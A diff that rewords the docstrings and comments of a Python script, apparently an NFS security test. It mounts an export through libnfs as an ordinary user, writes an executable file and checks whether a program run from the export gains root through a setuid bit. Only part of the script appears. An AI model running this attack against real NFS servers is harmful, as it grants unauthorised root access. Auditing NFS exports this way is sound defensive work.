@@ -1,4 +1,4 @@
-"""What an ordinary user of the PC can try against an NFS server: become root by a setuid program in the tree.
+"""An attack on an NFS server by an ordinary user of the PC: become root by a setuid program in the tree.
 
     python3 intruder.py ADDRESS PORT TREE PROGRAM
 
@@ -22,7 +22,7 @@ _CONTENT = b"written by an ordinary user"
 
 
 class Server:
-    """An NFSv4 server, by libnfs (the library comes with libnfs-utils)."""
+    """An NFSv4 client with libnfs (from the package libnfs-utils)."""
 
     def __init__(self, address: str, port: str, tree: str) -> None:
         self._library = ctypes.CDLL(ctypes.util.find_library("nfs"))
@@ -35,11 +35,11 @@ class Server:
         self._server, self._path, _ = self._library.nfs_parse_url_dir(self._context, url.encode()).contents
 
     def mount(self) -> None:
-        """Become a client."""
+        """Connect to the server."""
         self._done(self._library.nfs_mount(self._context, self._server, self._path))
 
     def write(self, name: str) -> None:
-        """Make a file."""
+        """Create a file."""
         handle = ctypes.c_void_p()
         flags = os.O_CREAT | os.O_WRONLY
         self._done(self._library.nfs_open2(self._context, f"/{name}".encode(), flags, 0o755, ctypes.byref(handle)))
@@ -56,14 +56,14 @@ class Server:
 
 
 def execute(program: str) -> None:
-    """Run id(1) from there; an error unless it runs as root."""
+    """Run id(1) from the tree; raise an error unless it runs as root."""
     done = subprocess.run([program], capture_output=True, text=True, check=True)
     if "euid=0" not in done.stdout:
         raise OSError(f"it ran as {done.stdout}")
 
 
 def main(address: str, port: str, tree: str, program: str) -> None:
-    """Try, and print what worked."""
+    """Run the attack and print which steps succeed."""
     server = Server(address, port, tree)
     found: dict[str, object] = {"user": os.geteuid()}
     said: list[str] = []
@@ -75,7 +75,7 @@ def main(address: str, port: str, tree: str, program: str) -> None:
     ):
         found[what] = False
         if said and what != "executed":
-            continue  # without a mount, the library waits for ever
+            continue  # without a mount, the library blocks forever
         try:
             step()
         except (OSError, subprocess.CalledProcessError) as fault:
